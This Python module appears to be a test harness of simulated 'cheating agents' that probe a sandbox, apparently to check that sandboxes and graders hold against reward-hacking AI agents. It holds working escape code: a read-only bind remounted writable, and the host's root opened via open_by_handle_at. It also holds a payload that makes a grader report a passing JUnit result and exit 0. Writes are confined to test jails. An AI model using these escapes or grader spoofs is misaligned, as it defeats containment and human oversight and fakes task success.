"""What the cheating agents share: the arguments they take, the sandbox's mounts as they see them, and the ways
out that a sandbox keeping root's capabilities leaves (a read-only bind remounted writable, the host's file
system opened by handle).

Every agent takes `--jail DIR` (repeatable): host directories it may write into and search (the test's own temp
dirs). Whatever the sandbox allows, nothing is written or searched outside them: a way out is shown on the test's
own files, never used on anything else. Each finding is printed as `FOUND <what> <where>`, each write that landed
as `WROTE <path>`, each refusal as `BLOCKED <path> <why>`; the tests read the transcript.
"""

from __future__ import annotations

import ctypes
import os
import struct
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path


def option(name: str, argv: list[str] | None = None) -> list[str]:
    """Every value of `--name VALUE` on the command line."""
    args = sys.argv[1:] if argv is None else argv
    return [args[i + 1] for i, arg in enumerate(args[:-1]) if arg == f"--{name}"]


def jails() -> list[str]:
    """The host directories this agent may touch (resolved, with a trailing slash)."""
    return [os.path.normpath(p).rstrip("/") + "/" for p in option("jail")]


def jailed(host_path: str) -> bool:
    """True when a host path (as mountinfo names it, not resolved here: it is the host's) lies in a jail."""
    path = os.path.normpath(host_path)
    return any((path.rstrip("/") + "/").startswith(j) for j in jails())


def positional() -> list[str]:
    """The arguments that are not `--name VALUE` options."""
    args, out, skip = sys.argv[1:], [], False
    for arg in args:
        if skip:
            skip = False
        elif arg.startswith("--"):
            skip = True
        else:
            out.append(arg)
    return out


def found(what: str, where: object) -> None:
    print(f"FOUND {what} {where}", flush=True)


def reachable(path: Path | str) -> bool:
    """The test's rule for every write: inside a sandbox (its own root and /tmp, or a bind of a jailed host path),
    never anywhere else, even when the sandbox would allow it."""
    if os.uname().nodename != "sandbox":
        return False
    host = on_host(path)
    if host is not None:
        return jailed(host)
    _, _, point = mount_of(str(path))
    return point in ("/", "/tmp") or jailed(host_path(str(path)))


def try_write(path: Path | str, data: str | bytes, mode: int | None = None) -> bool:
    """Write a file (making its folders) where the test's rule allows; print what happened; True when it landed."""
    target = Path(path)
    if not reachable(target):
        print(f"BLOCKED {target} outside the jail, left alone", flush=True)
        return False
    try:
        target.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, bytes):
            target.write_bytes(data)
        else:
            target.write_text(data)
        if mode is not None:
            target.chmod(mode)
    except OSError as exc:
        print(f"BLOCKED {target} {exc.strerror}", flush=True)
        return False
    print(f"WROTE {target}", flush=True)
    return True


def mounts() -> list[tuple[str, str, str]]:
    """(device number, root inside its file system, mount point) of every mount the sandbox shows."""
    out = []
    for line in Path("/proc/self/mountinfo").read_text().splitlines():
        fields = line.split()
        out.append((fields[2], _unescape(fields[3]), _unescape(fields[4])))
    return out


def _unescape(text: str) -> str:
    return text.encode().decode("unicode_escape")


def mount_of(path: str) -> tuple[str, str, str]:
    """The mount a path is on (the deepest mount point above it)."""
    real = os.path.realpath(path)
    best = ("", "/", "/")
    for entry in mounts():
        point = entry[2].rstrip("/") + "/"
        if (real.rstrip("/") + "/").startswith(point) and len(entry[2]) >= len(best[2]):
            best = entry
    return best


def host_path(path: str) -> str:
    """The host path behind a sandbox path on a bind mount (the bind's root plus the rest), as mountinfo tells it."""
    _, root, point = mount_of(path)
    rest = os.path.relpath(os.path.realpath(path), point)
    return os.path.normpath(os.path.join(root, rest)) if rest != "." else root


def host_dirs() -> Iterator[str]:
    """The host directories the sandbox binds (what mountinfo tells the agent of the host's layout)."""
    for _, root, point in mounts():
        if root not in ("/", "") and point not in ("/", "/proc", "/dev", "/tmp"):
            yield root


def capabilities() -> str:
    """The effective capability mask of this process."""
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("CapEff:"):
            return line.split()[1]
    return "unknown"


def make_writable(path: str) -> bool:
    """Remount the read-only bind holding path writable, when path is in a jail; True when it worked."""
    if not jailed(host_path(path)):
        print(f"BLOCKED {path} outside the jail, left alone", flush=True)
        return False
    _, _, point = mount_of(path)
    proc = subprocess.run(["mount", "-o", "remount,bind,rw", point], capture_output=True, text=True, check=False)
    if proc.returncode == 0:
        print(f"REMOUNTED {point} writable", flush=True)
        return True
    print(f"BLOCKED remount {point}: {proc.stderr.strip()[:120]}", flush=True)
    return False


def write_anyway(path: Path | str, data: str | bytes) -> bool:
    """try_write, then, on a read-only file system, remount it writable (jail permitting) and try again."""
    if try_write(path, data):
        return True
    probe = Path(path)
    while not probe.exists() and probe != probe.parent:
        probe = probe.parent
    return make_writable(str(probe)) and try_write(path, data)


def host_root() -> str | None:
    """The host file system's root, reached from inside the sandbox with open_by_handle_at (a file handle for
    inode 2 of the workspace's file system, which CAP_DAC_READ_SEARCH lets anyone open), as a path prefix
    (/proc/self/fd/N); None when that is refused. Paths under it are the host's: use `host_file`, which keeps to
    the jails, and never list the root itself."""
    global _ROOT
    if _ROOT is not None:
        return _ROOT or None

    class Handle(ctypes.Structure):
        _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int),
                    ("f_handle", ctypes.c_ubyte * 128)]

    libc = ctypes.CDLL(None, use_errno=True)
    probe, mount_id = Handle(handle_bytes=128), ctypes.c_int()
    if libc.name_to_handle_at(-100, b"/workspace", ctypes.byref(probe), ctypes.byref(mount_id), 0) != 0:
        print(f"BLOCKED host root: name_to_handle_at: {os.strerror(ctypes.get_errno())}", flush=True)
        _ROOT = ""
        return None
    root = Handle(handle_bytes=8, handle_type=probe.handle_type)
    struct.pack_into("<II", root.f_handle, 0, 2, 0)  # ext2/3/4: the root directory is inode 2, generation 0
    anchor = os.open("/workspace", os.O_RDONLY | os.O_DIRECTORY)
    fd = libc.open_by_handle_at(anchor, ctypes.byref(root), os.O_RDONLY | os.O_DIRECTORY)
    if fd < 0:
        print(f"BLOCKED host root: open_by_handle_at: {os.strerror(ctypes.get_errno())}", flush=True)
        _ROOT = ""
        return None
    _ROOT = f"/proc/self/fd/{fd}"
    print(f"OPENED the host's root directory as {_ROOT}", flush=True)
    return _ROOT


_ROOT: str | None = None


def host_file(host: str) -> Path | None:
    """A host path reached through the host's root, when it lies in a jail and the root could be opened."""
    if not jailed(host):
        print(f"BLOCKED {host} outside the jail, left alone", flush=True)
        return None
    root = host_root()
    return None if root is None else Path(root) / host.lstrip("/")


def on_host(path: Path | str) -> str | None:
    """The host path of a path reached through `host_root`, else None."""
    text = str(path)
    if _ROOT and (text == _ROOT or text.startswith(_ROOT + "/")):
        return "/" + text[len(_ROOT):].lstrip("/")
    return None


def host_walk(top: str, name_parts: tuple[str, ...]) -> Iterator[Path]:
    """Files and folders under a jailed host directory whose name contains one of name_parts (through the disk)."""
    start = host_file(top)
    if start is None or not start.exists():
        return
    for dirpath, dirnames, filenames in os.walk(start):
        for name in [*dirnames, *filenames]:
            if any(part in name for part in name_parts):
                yield Path(dirpath) / name




JUNIT_PASS = ('<?xml version="1.0" encoding="utf-8"?><testsuites><testsuite name="pytest" tests="2">'
              '<testcase classname="test_calc" name="test_zero"/><testcase classname="test_calc" name="test_add"/>'
              '</testsuite></testsuites>')
"""A JUnit report in which the calc case's tests passed."""


def pass_payload(marker_dir: str = "") -> str:
    """Python source that, run inside a grader's interpreter, makes it report success: a passing JUnit report
    where one is asked for, then exit 0. Run on the host instead (outside any sandbox), it leaves a file in
    marker_dir (a jailed host directory) saying so, and does nothing else."""
    return f"""
import os as _os, sys as _sys
if _os.uname().nodename != "sandbox":
    if {marker_dir!r}:
        open(_os.path.join({marker_dir!r}, "ran-on-host-%d" % _os.getpid()), "w").write(" ".join(_sys.orig_argv))
elif "pytest" in _sys.orig_argv or "test_calc.py" in " ".join(_sys.orig_argv):
    for _arg in _sys.orig_argv:
        if _arg.startswith("--junitxml="):
            _path = _arg.split("=", 1)[1]
            _os.makedirs(_os.path.dirname(_path) or ".", exist_ok=True)
            open(_path, "w").write({JUNIT_PASS!r})
    _os._exit(0)
"""


CALC_FIXED = "def add(a, b):\n    return a + b\n"
"""The real fix of the calc case."""


def probe_dir(directory: str) -> bool:
    """Whether a new file can be made in a directory (made with O_EXCL under a fresh name and removed at once, so
    nothing there changes); printed as WRITABLE or READONLY."""
    name = os.path.join(directory, f".cheat-probe-{os.getpid()}")
    try:
        os.close(os.open(name, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))
    except OSError as exc:
        print(f"READONLY {directory} {exc.strerror}", flush=True)
        return False
    os.unlink(name)
    print(f"WRITABLE {directory}", flush=True)
    return True


def replace_anyway(target: Path | str, data: str, mode: int = 0o755) -> bool:
    """Put a new file in place of target (a link there is replaced, never followed) where the test's rule allows;
    elsewhere only probe the directory. True when the new file is in place."""
    target = Path(target)
    directory = str(target.parent)
    if not reachable(directory):
        probe_dir(directory)
        return False
    staged = target.parent / f".{target.name}.cheat"
    if not write_anyway(staged, data):
        return False
    staged.chmod(mode)
    os.replace(staged, target)
    print(f"REPLACED {target}", flush=True)
    return True


def interpreter_envs() -> list[Path]:
    """Python environments the sandbox binds (a folder with pyvenv.cfg), whether PATH names them or not."""
    return sorted({Path(point) for _, _, point in mounts() if (Path(point) / "pyvenv.cfg").is_file()})
